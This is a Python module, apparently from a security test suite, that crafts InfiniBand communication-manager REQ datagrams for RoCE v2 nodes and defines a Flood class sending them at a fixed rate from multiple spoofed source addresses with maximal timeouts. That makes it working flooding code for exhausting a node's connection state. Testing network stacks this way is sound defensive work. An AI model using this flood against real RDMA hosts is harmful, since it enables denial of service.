"""Datagrams of the InfiniBand communication manager, as anybody can send them to queue pair 1 of a RoCE v2 node."""

import struct
import threading
import time
import traceback

from packets import address_bytes
from roce import PORT, SERVICES, bth, roce_packet

SEND_ONLY = 0x04
QKEY = 0x80010000
PORT_SPACE_TCP = 0x0106
REQ = 0x10
MAD_DATA_BYTES = 232


def gid(address):
    """Returns an IPv4 address as a GID."""
    return bytes(10) + b"\xff\xff" + address_bytes(address)


def management_packet(source, destination, attribute, body):
    """Returns the packet. `body`: the message after the MAD's header."""
    datagram_header = struct.pack("!II", QKEY, 1)
    mad_header = struct.pack("!BBBBHHQHHI", 1, 7, 2, 3, 0, 0, 1, attribute, 0, 0)
    content = bth(SERVICES["ud"] | SEND_ONLY, 1, 0) + datagram_header + mad_header + body.ljust(MAD_DATA_BYTES, b"\0")
    return roce_packet(source, PORT, destination, content)


def request(source, destination, port, number, guid=0xBAD, qpn=None):
    """Returns a REQ (IBA 12.6.5) to a listener of RDMA_PS_TCP, with the longest response time-out."""
    timeout = 31 << 3  # In the upper five bits of a byte.
    head = struct.pack("!IIQQII", number, 0, PORT_SPACE_TCP << 16 | port, guid, 0, 0)
    queue_pair = struct.pack("!IIIIHBB", (number if qpn is None else qpn) << 8, 0, timeout, number << 8 | timeout | 7,
                             0xFFFF, 3 << 4 | 7, 15 << 4)
    path = struct.pack("!HH16s16sIBBBB", 0xFFFF, 0xFFFF, gid(source), gid(destination), 3, 0, 64, 0, timeout)
    ends = struct.pack("!BBH12x4s12x4s", 0, 4 << 4, 1, address_bytes(source), address_bytes(destination))
    return management_packet(source, destination, REQ, head + queue_pair + path + bytes(len(path)) + ends)


class Flood:
    """Sends REQs at a constant rate, one after the other from each of the addresses. An exception there fails the
    test at the end."""

    def __init__(self, attacker, sources, destination, port, per_second):
        self._attacker = attacker
        self._sources = sources
        self._destination = destination
        self._port = port
        self._per_second = per_second
        self._ends = threading.Event()
        self._thread = threading.Thread(target=self._run)
        self._fault = None
        self.sent = 0

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, kind, *_):
        self._ends.set()
        self._thread.join()
        if self._fault and kind is None:
            raise self._fault

    def _run(self):
        try:
            self._send()
        except Exception as fault:  # pylint: disable=broad-except
            traceback.print_exc()
            self._fault = fault

    def _send(self):
        begin = time.monotonic()
        while not self._ends.is_set():
            while self.sent < (time.monotonic() - begin) * self._per_second and not self._ends.is_set():
                self.sent += 1
                source = self._sources[self.sent % len(self._sources)]
                self._attacker.send(request(source, self._destination, self._port, self.sent))
            self._ends.wait(0.002)
